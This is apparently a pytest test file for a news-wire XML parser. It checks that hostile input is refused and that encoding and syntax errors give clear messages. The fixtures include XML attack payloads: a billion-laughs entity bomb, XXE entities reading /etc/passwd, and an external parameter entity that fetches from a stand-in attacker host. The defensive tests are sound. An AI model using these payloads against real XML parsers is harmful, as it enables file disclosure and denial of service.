"""service.formats: hostile and broken XML, shared by NITF and NewsML."""
from __future__ import annotations

import pytest

from service.errors import WireFormatError
from service.formats import parse

BODY = '<head><docdata><doc-id id-string="d"/></docdata></head><body><body.content><p>{}</p></body.content></body>'


def _nitf(paragraph: str = "Tekst.", *, prolog: str = "") -> str:
    return f"{prolog}<nitf>{BODY.format(paragraph)}</nitf>"


BILLION_LAUGHS = _nitf(
    "&lol9;",
    prolog="""<?xml version="1.0"?>
<!DOCTYPE nitf [
  <!ENTITY lol "lol">
  <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
  <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
  <!ENTITY lol9 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
]>
""",
)
XXE = _nitf("&xxe;", prolog='<?xml version="1.0"?>\n<!DOCTYPE nitf [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n')
PARAMETER_ENTITY = _nitf(
    prolog='<!DOCTYPE nitf [<!ENTITY % ext SYSTEM "http://angriper.example/x.dtd"> %ext;]>'
)
HIDDEN_BEHIND_COMMENT = _nitf(
    "&xxe;", prolog='<!-- <nitf> --><!DOCTYPE nitf [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
)


@pytest.mark.parametrize("raw", [BILLION_LAUGHS, XXE, PARAMETER_ENTITY, HIDDEN_BEHIND_COMMENT])
@pytest.mark.parametrize("fmt", ["auto", "nitf", "newsml"])
def test_entity_declarations_are_refused(raw: str, fmt: str) -> None:
    with pytest.raises(WireFormatError, match=r"DOCTYPE declares entities") as caught:
        parse(raw, fmt)
    assert caught.value.where == "DOCTYPE"
    assert "root" not in caught.value.reason


def test_external_dtd_without_entities_is_fine_and_not_fetched() -> None:
    raw = _nitf(prolog='<!DOCTYPE nitf SYSTEM "http://angriper.example/nitf.dtd">')
    assert parse(raw).body_text == "Tekst."


def test_undefined_entity_is_a_syntax_error() -> None:
    with pytest.raises(WireFormatError, match="Entity 'nbsp' not defined"):
        parse(_nitf("100&nbsp;000"))


def test_character_references_and_cdata() -> None:
    raw = _nitf("100&#160;000 &amp; 2&#x202F;500 <![CDATA[<b>rå</b>]]>")
    assert parse(raw).body_text == "100\u00a0000 & 2\u202f500 <b>rå</b>"


@pytest.mark.parametrize(
    ("raw", "reason"),
    [
        (
            '<?xml version="1.0" encoding="UTF-8"?>' + _nitf("Tromsø"),
            r"bytes invalid in encoding UTF-8: byte 0xF8 at offset \d+ \(is the declared encoding wrong\?\)",
        ),
        (_nitf("Ålesund"), r"bytes invalid in encoding UTF-8 \(no encoding declared\): byte 0xC5"),
        ('<?xml version="1.0" encoding="us-ascii"?>' + _nitf("æøå"), "bytes invalid in encoding us-ascii: byte 0xE6"),
    ],
)
def test_latin1_bytes_under_a_wrong_declaration(raw: str, reason: str) -> None:
    with pytest.raises(WireFormatError, match=reason):
        parse(raw.encode("iso-8859-1"))


def test_utf8_bytes_declared_as_latin1() -> None:
    raw = ('<?xml version="1.0" encoding="iso-8859-1"?>' + _nitf("Tromsø")).encode("utf-8")
    with pytest.raises(WireFormatError, match="declared encoding 'iso-8859-1' is wrong: the bytes are UTF-8"):
        parse(raw)


def test_unknown_declared_encoding() -> None:
    with pytest.raises(WireFormatError, match="unknown encoding 'klingon-8'"):
        parse(('<?xml version="1.0" encoding="klingon-8"?>' + _nitf()).encode())


def test_utf16_document_with_bom() -> None:
    raw = ('\ufeff<?xml version="1.0" encoding="UTF-16"?>' + _nitf("Snø i Ålesund.")).encode("utf-16-le")
    assert parse(raw).body_text == "Snø i Ålesund."


def test_declared_utf16_without_bom_is_wrong() -> None:
    with pytest.raises(WireFormatError, match="declared encoding 'UTF-16' is wrong"):
        parse(('<?xml version="1.0" encoding="UTF-16"?>' + _nitf()).encode())


def test_syntax_error_has_line_and_column() -> None:
    raw = '<?xml version="1.0"?>\n<nitf>\n<head>\n<docdata></head>\n</nitf>'
    with pytest.raises(WireFormatError, match="XML syntax error: Opening and ending tag mismatch") as caught:
        parse(raw, "nitf")
    assert caught.value.where == "line 4, column 17"


def test_deep_nesting_is_refused() -> None:
    raw = _nitf("<b>" * 5000 + "dypt" + "</b>" * 5000)
    with pytest.raises(WireFormatError, match="Excessive depth"):
        parse(raw)


def test_control_characters_in_xml_text() -> None:
    with pytest.raises(WireFormatError, match="XML syntax error"):
        parse(_nitf("Te\x01kst").encode())  # raw C0 is not XML
    assert parse(_nitf("Tekst&#x9;med&#x9;tab.")).body_text == "Tekst med tab."
